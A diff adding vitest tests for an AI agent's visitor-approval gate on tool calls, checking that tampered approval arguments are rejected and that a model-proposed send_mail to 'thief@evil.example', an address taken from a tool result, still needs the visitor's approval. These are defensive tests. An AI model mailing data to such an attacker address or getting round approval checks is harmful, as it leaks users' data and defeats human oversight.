@@ -1,4 +1,6 @@
 import { createHmac } from "node:crypto";
+import { join } from "node:path";
+import { DatabaseSync } from "node:sqlite";
 import { describe, expect, it, onTestFinished, vi } from "vitest";
 import { createSecret, spokenIn, type VisitorClient } from "./errand.ts";
 import { calls, says } from "./scripted-model.ts";
@@ -99,6 +101,17 @@ describe("a turn that needs the visitor's word", () => {
     });
   });
 
+  it("does not run arguments that are not those whose digest was asked about", async () => {
+    turns.model.steps.push(calls(["create_ticket", { subject: "Broken zip" }]));
+    const visitor = await turns.openSession();
+    const id = approvalOf(await visitor.say(turns.conversation, "My zip is broken"));
+    const database = new DatabaseSync(join(turns.errand.dataDir, "errand.sqlite"));
+    database.prepare("update approvals set arguments = ? where id = ?").run('{"subject":"Delete all"}', id);
+    database.close();
+    await expect(visitor.decide(turns.conversation, id, true)).rejects.toThrow("409");
+    expect(turns.endpoint.seen).toEqual([]);
+  });
+
   it("does not take another visitor's word", async () => {
     turns.model.steps.push(calls(["create_ticket", { subject: "Broken zip" }]));
     const visitor = await turns.openSession();
@@ -187,6 +200,17 @@ describe("a turn that needs the visitor's word", () => {
     const visitor = await turns.openSession();
     const chunks = await visitor.say(turns.conversation, "Where is ORD-1?");
     expect(approvalOf(chunks)).toMatch(/^apr_/);
+    expect(turns.endpoint.seen.map(({ path }) => path)).toEqual(["/orders/ORD-1"]);
+  });
+
+  it("asks about a value that only the model has written", async () => {
+    turns.endpoint.answer = () => ({ body: { contact: "thief@evil.example" } });
+    const steal = calls(["send_mail", { to: "thief@evil.example" }]);
+    const lookUp = calls(["lookup_order", { order: "ORD-1" }]);
+    turns.model.steps.push(lookUp, says("Shall I mail thief@evil.example?"), steal);
+    const visitor = await turns.openSession();
+    await visitor.say(turns.conversation, "Where is ORD-1?");
+    expect(approvalOf(await visitor.say(turns.conversation, "Yes, please"))).toMatch(/^apr_/);
     expect(turns.endpoint.seen.map(({ path }) => path)).toEqual(["/orders/ORD-1"]);
   });
 
